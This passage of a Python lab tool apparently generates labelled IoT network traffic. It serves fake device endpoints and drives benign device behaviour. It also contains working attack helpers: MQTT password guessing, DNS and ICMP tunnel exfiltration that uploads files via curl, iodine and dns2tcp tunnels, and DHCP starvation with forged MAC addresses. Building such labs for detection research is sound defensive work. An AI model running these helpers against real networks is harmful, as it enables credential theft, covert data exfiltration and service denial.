"""Small lab services and the benign device driver, run inside lab namespaces by ``iotwatch lab``.

    python -m iotwatch.captures.lab.services serve --bind IP [--http 80] [--admin-user U --admin-pass P]
        [--telnet 23] [--ftp 21] [--coap 5683] [--dns 53 --dns-zone Z] [--user U --password P] --until EPOCH
    python -m iotwatch.captures.lab.services drive --seed N --until EPOCH --max-actions N [actions...]

``serve`` runs the login targets and IoT endpoints the real tools attack: an HTTP server (pages, a
camera snapshot, an ``/admin`` page behind basic auth, ``/upload``), a telnet login, an FTP login
(USER/PASS/SYST/PWD/NOOP/QUIT), a CoAP responder and a tiny authoritative DNS server for the
tunnel zone (TXT and A answers). Real daemons (mosquitto, dnsmasq, dropbear) are started by the lab
itself. ``drive`` is one device's benign behaviour: MQTT publishes through a persistent
``mosquitto_pub -l``, HTTP/CoAP polls, DNS look-ups with ``dig``, legitimate FTP logins and pings,
at seeded random intervals. Both stop by themselves at ``--until`` (epoch seconds); ``drive`` also
after ``--max-actions`` actions. They only ever talk to the addresses given on their command line,
which the lab sets to lab hosts. The attack helpers are bounded loops around real clients: ``guess-mqtt``
(``mosquitto_pub`` with each password of a list; hydra 9.4 has no MQTT module), ``dig-tunnel``
(base32 data chunks as query names, ``dig`` in paced batches) and ``iodine-exfil`` (an ``iodine``
tunnel through the lab resolver, with a bounded ``ping`` through it).
"""
from __future__ import annotations

import argparse
import asyncio
import base64
import ftplib
import json
import os
import random
import shlex
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MAX_UPLOAD = 64 * 1024 * 1024
IAC = 255


# ---------------------------------------------------------------------------------------------------
# serve
# ---------------------------------------------------------------------------------------------------
def doh_answer(query: bytes, answer_ip: str) -> bytes:
    """The DNS answer of a DoH server (RFC 8484 body): A -> ``answer_ip`` for any name, other types
    -> no data (NOERROR), unparsable -> FORMERR."""
    try:
        qid, flags, qd = struct.unpack("!HHH", query[:6])
        name, off = _dns_name(query, 12)
        qtype, _ = struct.unpack("!HH", query[off:off + 4])
    except (struct.error, ValueError):
        return query[:2] + b"\x81\x01" + bytes(8)
    question = query[12:off + 4]
    rdata = socket.inet_aton(answer_ip) if qtype == 1 else b""
    resp = struct.pack("!HHHHHH", qid, 0x8180 | (flags & 0x0100), 1, 1 if rdata else 0, 0, 0) + question
    if rdata:
        resp += struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + rdata
    return resp


def _http_handler(admin_user: str, admin_pass: str, name: str, doh_ip: str = ""):
    token = "Basic " + base64.b64encode(f"{admin_user}:{admin_pass}".encode()).decode()
    rng = random.Random(name)
    snapshot = bytes(rng.getrandbits(8) for _ in range(24_000))
    blob = rng.randbytes(4 * 1024 * 1024)

    class Handler(BaseHTTPRequestHandler):
        server_version = "iot-httpd/1.0"
        protocol_version = "HTTP/1.1"

        def log_message(self, *a):  # quiet
            pass

        def _send(self, code: int, body: bytes, ctype: str = "text/html", extra: dict | None = None):
            self.send_response(code)
            self.send_header("Content-Type", ctype)
            self.send_header("Content-Length", str(len(body)))
            for k, v in (extra or {}).items():
                self.send_header(k, v)
            self.end_headers()
            if self.command != "HEAD":
                self.wfile.write(body)

        def do_GET(self):
            if self.path.startswith("/admin"):
                if self.headers.get("Authorization") != token:
                    self._send(401, b"<h1>401 Unauthorized</h1>", extra={"WWW-Authenticate": 'Basic realm="admin"'})
                else:
                    self._send(200, b"<h1>Router admin</h1>")
            elif self.path.startswith("/snapshot"):
                self._send(200, snapshot, "image/jpeg")
            elif self.path.startswith("/status"):
                body = json.dumps({"device": name, "uptime": int(time.monotonic()), "ok": True}).encode()
                self._send(200, body, "application/json")
            elif self.path.startswith("/download"):  # /download?bytes=N (a firmware image, a backup)
                q = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
                n = max(0, min(int((q.get("bytes") or ["100000"])[0]), len(blob)))
                self._send(200, blob[:n], "application/octet-stream")
            elif self.path.startswith("/description.xml"):  # UPnP device description (SSDP LOCATION)
                self._send(200, (f'<?xml version="1.0"?><root xmlns="urn:schemas-upnp-org:device-1-0"><device>'
                                 f"<deviceType>urn:schemas-upnp-org:device:Basic:1</deviceType><friendlyName>{name}"
                                 f"</friendlyName><UDN>uuid:{_uuid(name)}</UDN></device></root>").encode(), "text/xml")
            elif self.path.startswith("/dns-query") and doh_ip:  # DoH GET ?dns=base64url
                q = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
                raw = (q.get("dns") or [""])[0]
                msg = base64.urlsafe_b64decode(raw + "=" * (-len(raw) % 4))
                self._send(200, doh_answer(msg, doh_ip), "application/dns-message")
            elif self.path == "/" or self.path.startswith("/index"):
                self._send(200, f"<html><body><h1>{name}</h1></body></html>".encode())
            else:
                self._send(404, b"<h1>404</h1>")

        do_HEAD = do_GET

        def do_POST(self):
            length = min(int(self.headers.get("Content-Length") or 0), MAX_UPLOAD)
            if self.path.startswith("/dns-query") and doh_ip:  # DoH POST application/dns-message
                self._send(200, doh_answer(self.rfile.read(min(length, 4096)), doh_ip), "application/dns-message")
                return
            remaining = length
            while remaining > 0:
                chunk = self.rfile.read(min(65536, remaining))
                if not chunk:
                    break
                remaining -= len(chunk)
            self._send(200, json.dumps({"stored": length - remaining}).encode(), "application/json")

    return Handler


def _strip_telnet(data: bytes) -> bytes:
    out, i = bytearray(), 0
    while i < len(data):
        b = data[i]
        if b == IAC and i + 1 < len(data):
            cmd = data[i + 1]
            i += 3 if cmd in (251, 252, 253, 254) else 2
            continue
        out.append(b)
        i += 1
    return bytes(out)


async def _readline(reader: asyncio.StreamReader, timeout: float = 30.0) -> str | None:
    try:
        raw = await asyncio.wait_for(reader.readline(), timeout)
    except (asyncio.TimeoutError, ConnectionError):
        return None
    if not raw:
        return None
    return _strip_telnet(raw).decode("latin-1").strip("\r\n\x00 ")


async def _telnet_session(reader, writer, name: str, user: str, password: str):
    try:
        writer.write(bytes([IAC, 251, 1, IAC, 251, 3]) + f"\r\n{name} login: ".encode())
        for _ in range(3):
            await writer.drain()
            u = await _readline(reader)
            if u is None:
                return
            writer.write(b"Password: ")
            await writer.drain()
            p = await _readline(reader)
            if p is None:
                return
            if u == user and p == password:
                writer.write(b"\r\nBusyBox v1.35.0 built-in shell (ash)\r\n# ")
                await writer.drain()
                await _readline(reader, 5.0)
                writer.write(b"exit\r\n")
                return
            await asyncio.sleep(0.3)
            writer.write(f"\r\nLogin incorrect\r\n{name} login: ".encode())
    finally:
        await _close(writer)


async def _ftp_session(reader, writer, name: str, user: str, password: str):
    try:
        writer.write(f"220 {name} FTP server ready.\r\n".encode())
        given_user = None
        while True:
            await writer.drain()
            line = await _readline(reader)
            if line is None:
                return
            cmd, _, arg = line.partition(" ")
            cmd = cmd.upper()
            if cmd == "USER":
                given_user = arg
                writer.write(b"331 Please specify the password.\r\n")
            elif cmd == "PASS":
                if given_user == user and arg == password:
                    writer.write(b"230 Login successful.\r\n")
                else:
                    await asyncio.sleep(0.3)
                    writer.write(b"530 Login incorrect.\r\n")
            elif cmd == "SYST":
                writer.write(b"215 UNIX Type: L8\r\n")
            elif cmd == "PWD":
                writer.write(b'257 "/" is the current directory\r\n')
            elif cmd == "NOOP":
                writer.write(b"200 NOOP ok.\r\n")
            elif cmd == "QUIT":
                writer.write(b"221 Goodbye.\r\n")
                await writer.drain()
                return
            else:
                writer.write(b"502 Command not implemented.\r\n")
    finally:
        await _close(writer)


async def _close(writer):
    try:
        writer.close()
        await writer.wait_closed()
    except (ConnectionError, OSError):
        pass


class _CoapProtocol(asyncio.DatagramProtocol):
    """Answers any confirmable/non-confirmable CoAP request with 2.05 Content and a reading."""

    def __init__(self, seed: str):
        self.rng = random.Random(seed)

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, addr):
        if len(data) < 4 or data[0] >> 6 != 1:
            return
        typ, tkl = (data[0] >> 4) & 3, data[0] & 0x0F
        msg_id, token = data[2:4], data[4:4 + tkl]
        rtype = 2 if typ == 0 else 1  # CON -> ACK, NON -> NON
        payload = json.dumps({"t": round(20 + self.rng.random() * 5, 2), "h": self.rng.randint(30, 60)}).encode()
        header = bytes([(1 << 6) | (rtype << 4) | tkl, 0x45]) + msg_id + token
        self.transport.sendto(header + bytes([0xC0 | 1, 50]) + b"\xff" + payload, addr)  # Content-Format json


def _dns_name(data: bytes, off: int) -> tuple[str, int]:
    labels = []
    while off < len(data):
        n = data[off]
        if n == 0:
            return ".".join(labels), off + 1
        if n & 0xC0:
            return ".".join(labels), off + 2
        labels.append(data[off + 1:off + 1 + n].decode("latin-1"))
        off += 1 + n
    raise ValueError("truncated name")


class _DnsProtocol(asyncio.DatagramProtocol):
    """Authoritative answers for one zone: TXT -> an encoded blob, A -> a lab address; else NXDOMAIN."""

    def __init__(self, zone: str, answer_ip: str):
        self.zone = zone.lower().strip(".")
        self.answer_ip = socket.inet_aton(answer_ip)

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, addr):
        try:
            qid, flags, qd = struct.unpack("!HHH", data[:6])
            name, off = _dns_name(data, 12)
            qtype, _ = struct.unpack("!HH", data[off:off + 4])
        except (struct.error, ValueError):
            return
        question = data[12:off + 4]
        in_zone = name.lower().rstrip(".").endswith(self.zone)
        rdata = b""
        if in_zone and qtype == 16:  # TXT
            blob = base64.b32encode(os.urandom(90)).decode().rstrip("=").lower().encode()
            rdata = bytes([len(blob)]) + blob
        elif in_zone and qtype == 1:
            rdata = self.answer_ip
        rcode = 0 if in_zone else 3
        ancount = 1 if rdata else 0
        resp = struct.pack("!HHHHHH", qid, 0x8400 | (flags & 0x0100) | rcode, 1, ancount, 0, 0) + question
        if rdata:
            resp += struct.pack("!HHHIH", 0xC00C, qtype, 1, 0, len(rdata)) + rdata
        self.transport.sendto(resp, addr)


def _uuid(name: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_DNS, f"{name}.lab"))


SSDP_GROUP, MDNS_GROUP = "239.255.255.250", "224.0.0.251"


def multicast_socket(bind_ip: str, group: str, port: int) -> socket.socket:
    """A UDP socket bound to ``group:port`` that joined the group on the interface of ``bind_ip`` and
    sends multicast out of that interface (the lab has no multicast route: the interface is explicit)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("", port))  # group traffic and unicast (an SSDP reflector answers both)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(group) + socket.inet_aton(bind_ip))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(bind_ip))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 4 if group == SSDP_GROUP else 255)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 0)
    return s


def ssdp_response(name: str, ip: str, st: str) -> bytes:
    return (f"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nEXT:\r\nLOCATION: http://{ip}:80/description.xml\r\n"
            f"SERVER: Linux/5.10 UPnP/1.0 {name}/1.0\r\nST: {st}\r\nUSN: uuid:{_uuid(name)}::{st}\r\n"
            f"BOOTID.UPNP.ORG: 1\r\n\r\n").encode()


def ssdp_notify(name: str, ip: str, nt: str) -> bytes:
    return (f"NOTIFY * HTTP/1.1\r\nHOST: {SSDP_GROUP}:1900\r\nCACHE-CONTROL: max-age=1800\r\n"
            f"LOCATION: http://{ip}:80/description.xml\r\nNT: {nt}\r\nNTS: ssdp:alive\r\n"
            f"SERVER: Linux/5.10 UPnP/1.0 {name}/1.0\r\nUSN: uuid:{_uuid(name)}::{nt}\r\n\r\n").encode()


def m_search(st: str = "ssdp:all", mx: int = 2) -> bytes:
    return (f'M-SEARCH * HTTP/1.1\r\nHOST: {SSDP_GROUP}:1900\r\nMAN: "ssdp:discover"\r\nMX: {mx}\r\n'
            f"ST: {st}\r\n\r\n").encode()


SSDP_TYPES = ("upnp:rootdevice", "urn:schemas-upnp-org:device:Basic:1", "urn:schemas-upnp-org:service:SwitchPower:1")


class _SsdpProtocol(asyncio.DatagramProtocol):
    """A UPnP device's SSDP side: answers every M-SEARCH with one 200 OK per matching type (unicast to
    the asker, as devices do -- which is also what makes SSDP a reflector)."""

    def __init__(self, name: str, ip: str):
        self.name, self.ip = name, ip

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, addr):
        if not data.startswith(b"M-SEARCH"):
            return
        st = "ssdp:all"
        for line in data.decode("latin-1").split("\r\n"):
            if line.upper().startswith("ST:"):
                st = line[3:].strip()
        for t in SSDP_TYPES:
            if st in ("ssdp:all", t):
                self.transport.sendto(ssdp_response(self.name, self.ip, t), addr)


def dns_name_bytes(name: str) -> bytes:
    return b"".join(bytes([len(x)]) + x.encode() for x in name.strip(".").split(".")) + b"\0"


def mdns_announcement(name: str, ip: str, service: str = "_hap._tcp.local", port: int = 80) -> bytes:
    """An mDNS response (id 0, authoritative): PTR service -> instance, SRV, TXT, A (RFC 6762 §8.3)."""
    inst = f"{name}.{service}"
    host = f"{name}.local"
    rr = []
    rr.append(dns_name_bytes(service) + struct.pack("!HHIH", 12, 1, 4500, len(dns_name_bytes(inst))) + dns_name_bytes(inst))
    srv = struct.pack("!HHH", 0, 0, port) + dns_name_bytes(host)
    rr.append(dns_name_bytes(inst) + struct.pack("!HHIH", 33, 0x8001, 120, len(srv)) + srv)
    txt = b"".join(bytes([len(t)]) + t for t in (b"c#=1", b"ff=0", f"id={_uuid(name)[:17]}".encode(), b"md=plug", b"s#=1"))
    rr.append(dns_name_bytes(inst) + struct.pack("!HHIH", 16, 0x8001, 4500, len(txt)) + txt)
    rr.append(dns_name_bytes(host) + struct.pack("!HHIH", 1, 0x8001, 120, 4) + socket.inet_aton(ip))
    return struct.pack("!HHHHHH", 0, 0x8400, 0, len(rr), 0, 0) + b"".join(rr)


def mdns_query(service: str = "_hap._tcp.local") -> bytes:
    return struct.pack("!HHHHHH", 0, 0, 1, 0, 0, 0) + dns_name_bytes(service) + struct.pack("!HH", 12, 1)


class _MdnsProtocol(asyncio.DatagramProtocol):
    """Answers mDNS PTR queries for the device's services (multicast, as RFC 6762 devices do)."""

    def __init__(self, name: str, ip: str):
        self.name, self.ip = name, ip

    def connection_made(self, transport):
        self.transport = transport

    def datagram_received(self, data, addr):
        try:
            qid, flags, qd = struct.unpack("!HHH", data[:6])
            qname, _ = _dns_name(data, 12)
        except (struct.error, ValueError):
            return
        if flags & 0x8000 or not qd:
            return
        for svc in ("_hap._tcp.local", "_http._tcp.local"):
            if qname.lower().rstrip(".") == svc:
                self.transport.sendto(mdns_announcement(self.name, self.ip, svc), (MDNS_GROUP, 5353))


async def serve(args) -> None:
    loop = asyncio.get_running_loop()
    servers = []
    if args.telnet:
        servers.append(await asyncio.start_server(
            lambda r, w: _telnet_session(r, w, args.name, args.user, args.password), args.bind, args.telnet))
    if args.ftp:
        servers.append(await asyncio.start_server(
            lambda r, w: _ftp_session(r, w, args.name, args.user, args.password), args.bind, args.ftp))
    if args.coap:
        await loop.create_datagram_endpoint(lambda: _CoapProtocol(args.name), local_addr=(args.bind, args.coap))
    if args.dns:
        await loop.create_datagram_endpoint(lambda: _DnsProtocol(args.dns_zone, args.bind), local_addr=(args.bind, args.dns))
    if args.ssdp:
        await loop.create_datagram_endpoint(lambda: _SsdpProtocol(args.name, args.bind),
                                            sock=multicast_socket(args.bind, SSDP_GROUP, 1900))
    if args.mdns:
        await loop.create_datagram_endpoint(lambda: _MdnsProtocol(args.name, args.bind),
                                            sock=multicast_socket(args.bind, MDNS_GROUP, 5353))
    handler = _http_handler(args.admin_user, args.admin_pass, args.name, args.doh_answer)
    if args.http:
        httpd = ThreadingHTTPServer((args.bind, args.http), handler)
        httpd.daemon_threads = True
        threading.Thread(target=httpd.serve_forever, daemon=True).start()
    if args.https:
        import ssl

        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(args.cert, args.key)
        ctx.set_alpn_protocols(["http/1.1"])
        httpsd = ThreadingHTTPServer((args.bind, args.https), handler)
        httpsd.socket = ctx.wrap_socket(httpsd.socket, server_side=True)
        httpsd.daemon_threads = True
        threading.Thread(target=httpsd.serve_forever, daemon=True).start()
    print(f"serving on {args.bind} until {args.until:.0f}", flush=True)
    await asyncio.sleep(max(0.0, args.until - time.time()))
    for s in servers:
        s.close()


# ---------------------------------------------------------------------------------------------------
# drive (benign behaviour of one device)
# ---------------------------------------------------------------------------------------------------
def _coap_get(host: str, path: str, rng: random.Random) -> None:
    token = rng.getrandbits(32).to_bytes(4, "big")
    opt = path.encode()
    pkt = bytes([0x44, 0x01]) + rng.getrandbits(16).to_bytes(2, "big") + token + bytes([0xB0 | len(opt)]) + opt
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1.0)
        s.sendto(pkt, (host, 5683))
        s.recvfrom(1500)


def drive(args) -> int:
    rng = random.Random(args.seed)
    pub = None
    if args.mqtt:
        host, user, password, topic = args.mqtt.split(",", 3)
        pub = subprocess.Popen(["mosquitto_pub", "-h", host, "-u", user, "-P", password, "-t", topic,
                                "-l", "-q", "1", "-k", "20", "-i", f"{args.name}-{rng.getrandbits(24):06x}"],
                               stdin=subprocess.PIPE)
        time.sleep(0.2)
    actions: list[tuple[str, float]] = []  # (kind, mean period seconds)
    if pub:
        actions.append(("mqtt", args.mqtt_every))
    actions += [("http", 4.0)] * bool(args.http) + [("coap", 3.0)] * bool(args.coap)
    actions += [("dns", 6.0)] * bool(args.dns) + [("ftp", 15.0)] * bool(args.ftp) + [("ping", 10.0)] * bool(args.ping)
    actions += [("telnet", 20.0)] * bool(args.telnet)
    runs = {}
    for i, spec in enumerate(args.run):  # "PERIOD|argv" -- a real client run at random intervals
        period, _, cmd = spec.partition("|")
        runs[f"run{i}"] = shlex.split(cmd)
        actions.append((f"run{i}", float(period)))
    args.runs = runs
    nxt = {k: time.time() + rng.uniform(0, p) for k, p in actions}
    done = 0
    try:
        while time.time() < args.until and done < args.max_actions and nxt:
            kind = min(nxt, key=nxt.get)
            time.sleep(max(0.0, min(nxt[kind], args.until) - time.time()))
            if time.time() >= args.until:
                break
            period = dict(actions)[kind]
            nxt[kind] = time.time() + rng.expovariate(1.0 / period)
            done += 1
            try:
                _act(kind, args, rng, pub)
            except (OSError, ftplib.Error, subprocess.SubprocessError, ValueError) as e:
                print(f"{kind}: {e}", flush=True)
    finally:
        if pub:
            pub.stdin.close()
            try:
                pub.wait(timeout=3)
            except subprocess.TimeoutExpired:
                pub.kill()
    return 0


def _act(kind: str, args, rng: random.Random, pub) -> None:
    if kind.startswith("run"):
        subprocess.run(args.runs[kind], capture_output=True, timeout=args.run_timeout)
    elif kind == "mqtt":
        reading = {"dev": args.name, "ts": round(time.time(), 1), "v": round(rng.gauss(21, 2), 2)}
        pub.stdin.write((json.dumps(reading) + "\n").encode())
        pub.stdin.flush()
    elif kind == "http":
        url = rng.choice(args.http)
        with urllib.request.urlopen(url, timeout=3) as r:
            r.read()
    elif kind == "coap":
        _coap_get(rng.choice(args.coap), rng.choice(["temp", "status", "hum"]), rng)
    elif kind == "dns":
        server, *names = args.dns.split(",")
        subprocess.run(["dig", f"@{server}", rng.choice(names), "+short", "+tries=1", "+time=1"],
                       capture_output=True, timeout=5)
    elif kind == "ftp":
        host, user, password = args.ftp.split(",", 2)
        with ftplib.FTP(host, timeout=5) as f:
            f.login(user, password)
            f.pwd()
            f.voidcmd("NOOP")
    elif kind == "telnet":
        host, user, password = args.telnet.split(",", 2)
        with socket.create_connection((host, 23), timeout=5) as c:
            for answer in (user, password, "uptime"):
                c.recv(4096)
                c.sendall(answer.encode() + b"\r\n")
            c.recv(4096)
    elif kind == "ping":
        subprocess.run(["ping", "-n", "-c", "2", "-i", "0.5", "-W", "1", rng.choice(args.ping)],
                       capture_output=True, timeout=5)


def guess_mqtt(args) -> int:
    """Bounded MQTT login guessing with the real client (hydra 9.4 has no MQTT module)."""
    with open(args.passwords, encoding="utf-8") as fh:
        words = [w.strip() for w in fh if w.strip()][:args.max]
    for word in words:
        subprocess.run(["mosquitto_pub", "-h", args.host, "-u", args.user, "-P", word, "-t", "cmd/ping",
                        "-m", "1", "--quiet"], capture_output=True, timeout=5)
        time.sleep(args.pause)
    return 0


def tunnel_name(rng: random.Random, seq: int, zone: str) -> str:
    """A DNS-tunnel query name: a data chunk base32-encoded into long labels, then a sequence number."""
    chunk = base64.b32encode(rng.randbytes(rng.choice([30, 35, 38]))).decode().rstrip("=").lower()
    return f"{chunk[:60]}.{chunk[60:] or 'a'}{seq:04x}.{zone}"


def dig_tunnel(args) -> int:
    """Bounded DNS tunnel with the real ``dig``: ``--queries`` names, ``--batch`` per dig run, paced."""
    rng = random.Random(args.seed)
    for first in range(0, args.queries, args.batch):
        argv = ["dig", f"@{args.server}", "+tries=1", "+time=1"]
        for seq in range(first, min(args.queries, first + args.batch)):
            argv += [tunnel_name(rng, seq, args.zone), args.qtype]
        subprocess.run(argv, capture_output=True, timeout=5 + args.batch)
        time.sleep(rng.uniform(0.5, 1.5) * args.pause)
    return 0


def iodine_exfil(args) -> int:
    """Bring up an iodine DNS tunnel through the resolver, push ``--pings`` pings through it, close it."""
    # -T: no query-type autodetection (on a busy machine it outlasted the set-up timeout)
    # -m: no fragment-size autodetection either (same reason)
    iod = subprocess.Popen(["iodine", "-f", "-r", "-T", args.qtype, "-m", str(args.fragsize), "-P", args.password,
                            args.resolver, args.zone])
    try:
        deadline = time.time() + args.setup_timeout
        while time.time() < deadline:
            out = subprocess.run(["ip", "-br", "-4", "addr", "show", "dev", "dns0"], capture_output=True, text=True)
            if out.returncode == 0 and args.peer.rsplit(".", 1)[0] in out.stdout:
                break
            if iod.poll() is not None:
                print(f"iodine exited with {iod.returncode}", flush=True)
                return 1
            time.sleep(0.3)
        else:
            print("iodine tunnel did not come up", flush=True)
            return 1
        subprocess.run(["ping", "-n", "-q", "-c", str(args.pings), "-s", str(args.size), "-i", "0.2", "-W", "3",
                        args.peer], timeout=args.pings * 3 + 10)
    finally:
        iod.terminate()
        try:
            iod.wait(timeout=3)
        except subprocess.TimeoutExpired:
            iod.kill()
    return 0


STARVE_OUI = "02:de:ad"   # MAC prefix of the starvation helper's forged clients (labelling rule mac_prefix)


def _csum(b: bytes) -> int:
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF


def dhcp_frame(mac: bytes, xid: int, msgtype: int, requested: bytes = b"", server: bytes = b"") -> bytes:
    """Ethernet/IPv4/UDP/BOOTP from a DHCP client without an address (0.0.0.0 -> broadcast)."""
    opts = bytes([53, 1, msgtype]) + bytes([61, 7, 1]) + mac + bytes([12, 8]) + b"iot-" + mac[-2:].hex().encode()
    if requested:
        opts += bytes([50, 4]) + requested
    if server:
        opts += bytes([54, 4]) + server
    opts += bytes([55, 4, 1, 3, 6, 15, 255])
    bootp = (bytes([1, 1, 6, 0]) + xid.to_bytes(4, "big") + bytes(4) + bytes(16) + mac + bytes(10) + bytes(192)
             + b"\x63\x82\x53\x63" + opts)
    bootp += bytes(max(0, 300 - len(bootp)))
    udp = struct.pack("!HHHH", 68, 67, 8 + len(bootp), 0) + bootp
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), xid & 0xFFFF, 0, 64, 17, 0, bytes(4), b"\xff" * 4)
    ip = ip[:10] + _csum(ip).to_bytes(2, "big") + ip[12:]
    return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp


def dhcp_starve(args) -> int:
    """DHCP starvation, bounded: ``--count`` forged clients (random MACs under STARVE_OUI), each a
    DISCOVER and, when the server offers an address, a REQUEST for it -- the pool runs dry."""
    rng = random.Random(args.seed)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    s.bind((args.iface, 0))
    s.settimeout(0.05)
    oui = bytes.fromhex(STARVE_OUI.replace(":", ""))
    got = 0
    deadline = time.time() + args.max_seconds
    for _ in range(args.count):
        if time.time() > deadline:
            break
        mac, xid = oui + rng.randbytes(3), rng.getrandbits(32)
        s.send(dhcp_frame(mac, xid, 1))
        end = time.time() + 0.1
        while time.time() < end:
            try:
                raw = s.recv(2048)
            except (socket.timeout, OSError):
                break
            if len(raw) < 282 or raw[23] != 17 or raw[36:38] != b"\x00\x44" or raw[46:50] != xid.to_bytes(4, "big"):
                continue
            yiaddr, server = raw[58:62], raw[26:30]
            s.send(dhcp_frame(mac, xid, 3, requested=yiaddr, server=server))
            got += 1
            break
        time.sleep(args.pause)
    print(f"dhcp-starve: {args.count} clients, {got} offers answered with a request", flush=True)
    return 0


def _upload_through_tunnel(tunnel: list[str], settle: float, args) -> int:
    """Start a tunnel client that forwards ``args.local_port``, let it settle, upload ``args.file`` through
    it with ``curl`` (bounded by ``args.max_seconds``), then stop the tunnel."""
    tun = subprocess.Popen(tunnel)
    try:
        time.sleep(settle)
        subprocess.run(["curl", "-s", "-o", "/dev/null", "-m", str(args.max_seconds), "--data-binary", f"@{args.file}",
                        f"http://127.0.0.1:{args.local_port}/upload"], timeout=args.max_seconds + 5)
    finally:
        tun.terminate()
        try:
            tun.wait(timeout=3)
        except subprocess.TimeoutExpired:
            tun.kill()
    return 0


def ptunnel_exfil(args) -> int:
    """An ICMP tunnel with ptunnel-ng: the client forwards a local port through echo requests to the
    proxy, and ``curl`` uploads a file through it."""
    return _upload_through_tunnel(["ptunnel-ng", f"-p{args.proxy}", f"-l{args.local_port}", f"-r{args.dest}",
                                   f"-R{args.dest_port}", "-v", "1"], 1.0, args)


def dns2tcp_exfil(args) -> int:
    """A TCP-over-DNS tunnel with dns2tcpc through the lab resolver: a local port forwards to the
    server's resource, and ``curl`` uploads a file through it."""
    return _upload_through_tunnel(["dns2tcpc", "-z", args.zone, "-k", args.key, "-r", args.resource, "-l",
                                   str(args.local_port), "-T", args.qtype, args.resolver], 1.5, args)


def pair(args) -> int:
    """A device-pairing burst, bounded by ``--rounds``: the new device announces itself (mDNS
    announcements, SSDP NOTIFY alive for each type), the phone's app discovers it (SSDP M-SEARCH,
    mDNS queries), reads its description, posts the Wi-Fi/cloud settings and polls its status."""
    rng = random.Random(args.seed)
    if args.role == "device":
        msock = multicast_socket(args.ip, MDNS_GROUP, 5353)
        ssock = multicast_socket(args.ip, SSDP_GROUP, 1900)
        for r in range(args.rounds):
            msock.sendto(mdns_announcement(args.name, args.ip), (MDNS_GROUP, 5353))
            msock.sendto(mdns_announcement(args.name, args.ip, "_http._tcp.local"), (MDNS_GROUP, 5353))
            for t in SSDP_TYPES:
                ssock.sendto(ssdp_notify(args.name, args.ip, t), (SSDP_GROUP, 1900))
            time.sleep(min(4.0, 0.5 * 2 ** r) * rng.uniform(0.9, 1.1))   # RFC 6762: 1 s, then doubling
        return 0
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(args.ip))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 4)
    sock.bind((args.ip, 0))
    sock.settimeout(0.3)
    msock = multicast_socket(args.ip, MDNS_GROUP, 5353)
    for r in range(args.rounds):
        sock.sendto(m_search(), (SSDP_GROUP, 1900))
        msock.sendto(mdns_query(), (MDNS_GROUP, 5353))
        try:
            while True:
                sock.recvfrom(2048)
        except (socket.timeout, OSError):
            pass
        time.sleep(rng.uniform(0.2, 0.6))
    base = f"http://{args.device}"
    try:
        with urllib.request.urlopen(base + "/description.xml", timeout=3) as r:
            r.read()
        body = json.dumps({"ssid": "home-wifi", "psk": "correct horse", "cloud": "203.0.113.10", "tz": "UTC"}).encode()
        req = urllib.request.Request(base + "/setup", data=body, headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=3) as r:
            r.read()
        for _ in range(args.rounds):
            with urllib.request.urlopen(base + "/status", timeout=3) as r:
                r.read()
            time.sleep(rng.uniform(0.3, 0.8))
    except OSError as e:
        print(f"pair: {e}", flush=True)
    return 0


def main(argv=None) -> int:
    p = argparse.ArgumentParser(prog="python -m iotwatch.captures.lab.services")
    sub = p.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("serve")
    s.add_argument("--name", required=True)
    s.add_argument("--bind", required=True)
    s.add_argument("--until", type=float, required=True)
    s.add_argument("--http", type=int, default=0)
    s.add_argument("--admin-user", default="admin")
    s.add_argument("--admin-pass", default="admin-secret")
    s.add_argument("--telnet", type=int, default=0)
    s.add_argument("--ftp", type=int, default=0)
    s.add_argument("--coap", type=int, default=0)
    s.add_argument("--dns", type=int, default=0)
    s.add_argument("--dns-zone", default="t.lab")
    s.add_argument("--https", type=int, default=0)
    s.add_argument("--cert", default="")
    s.add_argument("--key", default="")
    s.add_argument("--doh-answer", default="", help="serve DoH on /dns-query: A records of every name -> this address")
    s.add_argument("--ssdp", action="store_true", help="answer SSDP M-SEARCH (UPnP device)")
    s.add_argument("--mdns", action="store_true", help="answer mDNS PTR queries for _hap._tcp / _http._tcp")
    s.add_argument("--user", default="operator")
    s.add_argument("--password", default="operator-secret")
    d = sub.add_parser("drive")
    d.add_argument("--name", required=True)
    d.add_argument("--seed", type=int, required=True)
    d.add_argument("--until", type=float, required=True)
    d.add_argument("--max-actions", type=int, default=5000)
    d.add_argument("--mqtt", help="host,user,password,topic")
    d.add_argument("--mqtt-every", type=float, default=2.0)
    d.add_argument("--http", nargs="*", default=[])
    d.add_argument("--coap", nargs="*", default=[])
